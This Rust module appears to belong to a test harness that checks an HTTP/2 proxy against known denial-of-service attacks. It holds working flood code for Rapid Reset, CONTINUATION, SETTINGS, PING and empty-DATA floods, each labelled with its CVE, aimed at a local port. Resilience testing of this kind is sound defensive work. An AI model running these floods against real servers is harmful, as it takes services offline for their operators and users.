//! Attacks that send as much as the connection takes.

use std::time::{Duration, Instant};

use super::Ended;
use crate::wire::h2::{
    CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS,
    Silence, frame, request,
};
use crate::wire::hpack;

/// Frames written at a time.
const BATCH: usize = 100;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Writes batches until the connection breaks or the time is over. `batch` gets the number of batches before.
fn flood(port: u16, until: Instant, opening: &[u8], mut batch: impl FnMut(u32) -> Vec<u8>) -> Ended {
    let Ok(mut connection) = Connection::connect(port, &[]) else { return Ended::Unreachable };
    if connection.write(opening).is_err() {
        return Ended::Refused;
    }
    let mut count = 0;
    while Instant::now() < until {
        if connection.write(&batch(count)).is_err() {
            return Ended::Refused;
        }
        count += 1;
        // What the proxy says is read now and then only: an attacker does not empty its receive buffer.
        if count % 16 == 0 && gone(&mut connection) {
            return Ended::Refused;
        }
    }
    Ended::Time
}

fn gone(connection: &mut Connection) -> bool {
    match connection.next(Duration::from_millis(1)) {
        Ok(frame) => frame.kind == GOAWAY,
        Err(silence) => silence == Silence::Closed,
    }
}

/// CVE-2023-44487: streams opened and cancelled at once.
pub(super) fn rapid_reset(port: u16, until: Instant) -> Ended {
    let block = request("GET", "/reset", &[]);
    flood(port, until, &[], |count| {
        let mut out = Vec::new();
        for index in 0..BATCH as u32 {
            let stream = (count * BATCH as u32 + index) * 2 + 1;
            out.extend_from_slice(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
            out.extend_from_slice(&frame(RST_STREAM, 0, stream, &CANCEL));
        }
        out
    })
}

/// CVE-2024-27919: a header block that never ends.
pub(super) fn continuation(port: u16, until: Instant) -> Ended {
    let opening = frame(HEADERS, END_STREAM, 1, &request("GET", "/continuation", &[]));
    let mut block = Vec::new();
    hpack::literal(&mut block, b"x-fill", &[b'a'; 8000]);
    let piece = frame(CONTINUATION, 0, 1, &block);
    flood(port, until, &opening, |_| piece.repeat(8))
}

/// CVE-2024-30255: the same with frames of no bytes.
pub(super) fn empty_continuation(port: u16, until: Instant) -> Ended {
    let opening = frame(HEADERS, END_STREAM, 1, &request("GET", "/continuation", &[]));
    let piece = frame(CONTINUATION, 0, 1, &[]).repeat(BATCH);
    flood(port, until, &opening, |_| piece.clone())
}

/// CVE-2019-9515: settings that all ask for an answer.
pub(super) fn settings(port: u16, until: Instant) -> Ended {
    let piece = frame(SETTINGS, 0, 0, &crate::wire::h2::settings(&[(3, 100)])).repeat(BATCH);
    flood(port, until, &[], |_| piece.clone())
}

/// CVE-2019-9512: pings.
pub(super) fn ping(port: u16, until: Instant) -> Ended {
    let piece = frame(PING, 0, 0, &[7; 8]).repeat(BATCH);
    flood(port, until, &[], |_| piece.clone())
}

/// CVE-2019-9518: DATA frames of no bytes that do not end the stream.
pub(super) fn empty_data(port: u16, until: Instant) -> Ended {
    let opening = frame(HEADERS, END_HEADERS, 1, &request("POST", "/empty", &[]));
    let piece = frame(DATA, 0, 1, &[]).repeat(BATCH);
    flood(port, until, &opening, |_| piece.clone())
}
